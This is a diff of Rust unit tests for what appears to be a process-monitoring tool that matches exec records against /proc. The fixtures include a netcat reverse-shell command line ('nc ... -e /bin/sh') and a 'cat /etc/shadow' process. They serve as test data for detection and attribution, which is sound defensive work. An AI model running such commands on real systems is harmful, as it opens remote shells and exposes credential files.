@@ -700,10 +700,15 @@ mod lifecycle_records {
             (c.ppid, c.comm.as_str(), c.cwd.as_str(), c.uid, c.origin),
             (50, "bash", "/home/u", 1000, Origin::Fork)
         );
-        // A successful execve's own event (stamped at entry, t=25) sees the image it exec'd.
-        q.apply_through_exec(&mut t, 51);
-        q.apply_until(&mut t, 25);
+        // A successful execve's own event (stamped at entry, t=17) sees the image it exec'd.
+        q.apply_through_exec(&mut t, 51, 17);
+        q.apply_until(&mut t, 17);
         assert_eq!(t.get(51).map(|p| (p.comm.as_str(), p.exepath.as_str())), Some(("sh", "/bin/sh")));
+        // So does the second execve's (entered at t=25, after the shell's exec record): its own
+        // record is the first exec at or after its entry, not the shell's.
+        q.apply_through_exec(&mut t, 51, 25);
+        q.apply_until(&mut t, 25);
+        assert_eq!(t.get(51).map(|p| (p.comm.as_str(), p.exepath.as_str())), Some(("true", "/bin/true")));
         q.apply_until(&mut t, 35);
         let c = t.get(51).expect("exec'd child").clone();
         assert_eq!(
@@ -733,6 +738,44 @@ mod lifecycle_records {
         apply(&mut t, &exec(2, 52, "/usr/bin/cat", "cat"));
         let c = t.get(52).expect("cat").clone();
         assert_eq!((c.cmdline.as_str(), c.cwd.as_str(), c.origin), ("cat /etc/shadow", "/etc", Origin::Proc));
+    }
+
+    #[test]
+    fn an_exec_applied_after_the_next_one_takes_the_record_not_proc() {
+        let fp = FakeProc::new();
+        bash_50(&fp);
+        let mut t = fp.table(16);
+        // `nc 10.0.0.1 4444 -e /bin/sh`: by the time nc's exec record is applied, nc has exec'd
+        // the shell, and /proc shows that.
+        fp.add(&P { argv: &["sh"], exe: "/bin/sh", cwd: "/srv", ..P::new(53, 50, "sh", 8) });
+        apply(&mut t, &fork(1, 50, 53, "bash"));
+        apply(&mut t, &exec_args(2, 53, "/bin/nc", "nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]));
+        let c = t.get(53).expect("nc").clone();
+        assert_eq!(
+            (c.comm.as_str(), c.exepath.as_str(), c.cmdline.as_str(), c.origin),
+            ("nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", Origin::Exec)
+        );
+        // Then the shell's own record: /proc agrees with it, and is taken.
+        apply(&mut t, &exec_args(3, 53, "/bin/sh", "sh", &["sh"]));
+        let c = t.get(53).expect("sh").clone();
+        assert_eq!((c.comm.as_str(), c.cwd.as_str(), c.origin), ("sh", "/srv", Origin::Proc));
+    }
+
+    #[test]
+    fn a_process_that_renamed_itself_or_rewrote_its_arguments_is_still_read_from_proc() {
+        let fp = FakeProc::new();
+        bash_50(&fp);
+        let mut t = fp.table(16);
+        // runc's init renames itself after its exec; its arguments stay.
+        fp.add(&P { argv: &["runc", "init"], exe: "/usr/sbin/runc", ..P::new(54, 50, "runc:[2:INIT]", 8) });
+        apply(&mut t, &fork(1, 50, 54, "bash"));
+        apply(&mut t, &exec_args(2, 54, "/proc/self/exe", "runc", &["runc", "init"]));
+        assert_eq!(t.get(54).map(|p| (p.exepath.as_str(), p.origin)), Some(("/usr/sbin/runc", Origin::Proc)));
+        // nginx rewrites its arguments; its name stays.
+        fp.add(&P { argv: &["nginx: master process"], exe: "/usr/sbin/nginx", ..P::new(55, 50, "nginx", 8) });
+        apply(&mut t, &fork(3, 50, 55, "bash"));
+        apply(&mut t, &exec_args(4, 55, "/usr/sbin/nginx", "nginx", &["nginx", "-g", "daemon off;"]));
+        assert_eq!(t.get(55).map(|p| p.origin), Some(Origin::Proc));
     }
 
     #[test]
@@ -795,7 +838,7 @@ mod lifecycle_records {
         assert_eq!(t.get(91).map(|p| (p.ppid, p.comm.as_str())), Some((50, "id")));
         // An exec record not in this batch was applied with an earlier one: nothing happens.
         let mut q = queue(&[exit(9, 91)]);
-        q.apply_through_exec(&mut t, 91);
+        q.apply_through_exec(&mut t, 91, 0);
         assert!(!q.is_empty());
         assert!(!t.get(91).expect("91").exited);
     }
